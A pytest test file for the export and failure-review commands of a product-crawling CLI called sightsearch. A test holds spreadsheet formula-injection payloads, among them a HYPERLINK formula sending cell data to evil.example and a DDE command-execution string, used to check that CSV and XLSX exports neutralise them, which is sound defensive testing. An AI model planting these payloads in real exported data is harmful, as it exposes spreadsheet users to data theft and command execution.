"""The `sightsearch` command end to end on a small store: read commands, failures review and export formats."""

from __future__ import annotations

import csv
import json
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path

import pytest
from sqlalchemy import Engine
from typer.testing import CliRunner

from sightsearch.cli import _register_commands, app
from sightsearch.config import get_settings
from sightsearch.etl.pipeline import EtlPipeline
from sightsearch.events.bus import MemoryBus
from sightsearch.storage.db import create_db_engine, upgrade_schema

_register_commands()
runner = CliRunner()


@pytest.fixture(autouse=True)
def fresh_settings() -> Iterator[None]:
    """The commands read settings from the environment: re-read them around each test."""
    get_settings.cache_clear()
    yield
    get_settings.cache_clear()


@pytest.fixture
def store(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Engine:
    url = f"sqlite:///{tmp_path / 'cli.db'}"
    monkeypatch.setenv("SIGHTSEARCH_DATABASE_URL", url)
    engine = create_db_engine(url)
    upgrade_schema(engine)
    return engine


async def load(engine: Engine) -> None:
    batch = [
        {"url": f"http://shop.test/p/{n}", "title": f"Tea pot {n}", "price": f"{n}.50", "currency": "GBP",
         "sku": f"T{n}", "availability": "InStock", "attributes": {"colour": "blue"}}
        for n in range(1, 4)
    ] + [{"url": "http://shop.test/p/bad", "title": "Tea cup", "price": "-1", "currency": "GBP"}]
    await EtlPipeline(engine, MemoryBus(), "run-cli").process(batch)


def invoke(*args: str) -> str:
    result = runner.invoke(app, list(args))
    assert result.exit_code == 0, result.output
    return result.output


async def test_products_and_failures(store: Engine) -> None:
    await load(store)
    lines = [json.loads(line) for line in invoke("products", "--json").splitlines()]
    assert [p["key"] for p in lines] == ["sku:T1", "sku:T2", "sku:T3"]
    (failure,) = [json.loads(line) for line in invoke("failures", "--json").splitlines()]
    assert (failure["stage"], failure["reason"]) == ("validate", "price must be positive, got -1.00")
    shown = json.loads(invoke("failures", "show", str(failure["id"])))
    assert shown["payload"]["title"] == "Tea cup"
    invoke("failures", "dismiss", str(failure["id"]))
    assert invoke("failures", "--json").strip() == ""
    assert json.loads(invoke("failures", "--json", "--status", "dismissed"))["status"] == "dismissed"


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "parquet", "xlsx"])
async def test_export_formats(store: Engine, tmp_path: Path, fmt: str) -> None:
    await load(store)
    output = tmp_path / f"products.{fmt}"
    assert "3 products written" in invoke("export", "--format", fmt, "--output", str(output))
    if fmt == "jsonl":
        rows = [json.loads(line) for line in output.read_text().splitlines()]
        assert rows[0]["price"] == "1.5000" and rows[0]["attributes"] == {"colour": "blue"}
    elif fmt == "csv":
        rows = list(csv.DictReader(output.open()))
        assert [r["sku"] for r in rows] == ["T1", "T2", "T3"]
    elif fmt == "parquet":
        import pyarrow.parquet as pq

        assert pq.read_table(output).column("title").to_pylist() == ["Tea pot 1", "Tea pot 2", "Tea pot 3"]
    else:
        import openpyxl

        sheet = openpyxl.load_workbook(output).active
        assert [c.value for c in next(sheet.iter_rows(min_row=2, max_row=2))][3] == "Tea pot 1"


HOSTILE = {"title": '=HYPERLINK("http://evil.example/?d="&A1,"click")', "brand": "+cmd|' /C calc'!A0",
           "sku": "-2+3", "category": "@SUM(1+1)", "mpn": "\tmpn", "gtin": "\r=1+1"}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exports_neutralise_cells_a_spreadsheet_would_run_as_formulas(store: Engine, tmp_path: Path,
                                                                       fmt: str) -> None:
    from sqlalchemy import insert

    from sightsearch.storage.db import session_scope
    from sightsearch.storage.models import Product

    with session_scope(store) as session:  # straight into the table: what a crawled page could leave there
        session.execute(insert(Product), [{"site": "shop.test", "product_key": "k1", "url": "http://shop.test/1",
                                           "price": Decimal("9.50"), "images": [], "attributes": {}, "sources": {},
                                           "content_hash": "0" * 64, **HOSTILE}])
    output = tmp_path / f"products.{fmt}"
    invoke("export", "--format", fmt, "--output", str(output))
    if fmt == "csv":
        (row,) = list(csv.DictReader(output.open(newline="")))
        cells = {name: row[name] for name in HOSTILE}
        assert row["price"] == "9.5000"
    else:
        import openpyxl

        sheet = openpyxl.load_workbook(output).active
        header = [cell.value for cell in sheet[1]]
        values = {header[i]: cell for i, cell in enumerate(sheet[2])}
        assert all(cell.data_type == "s" for cell in values.values() if cell.value is not None), "no formula cells"
        cells = {name: values[name].value for name in HOSTILE}
        assert values["price"].value == "9.5000"
    assert cells == {name: "'" + value for name, value in HOSTILE.items()}


def test_unknown_export_format_is_a_clear_error(store: Engine, tmp_path: Path) -> None:
    result = runner.invoke(app, ["export", "--format", "yaml", "--output", str(tmp_path / "x")])
    assert result.exit_code != 0
    assert "unknown export format 'yaml'" in str(result.exception)


def test_a_malformed_database_url_is_refused_without_its_password(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SIGHTSEARCH_DATABASE_URL", "postgresql//ops:hunter2-secret@db.internal/shop")
    result = runner.invoke(app, ["runs"])
    message = str(result.exception)
    assert "not a database URL" in message and "db.internal/shop" in message
    assert "hunter2-secret" not in message and "ops" not in message


def test_bad_database_url_is_a_clear_error(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SIGHTSEARCH_DATABASE_URL", "mysql://nope")
    result = runner.invoke(app, ["runs"])
    assert "unsupported database 'mysql'" in str(result.exception)
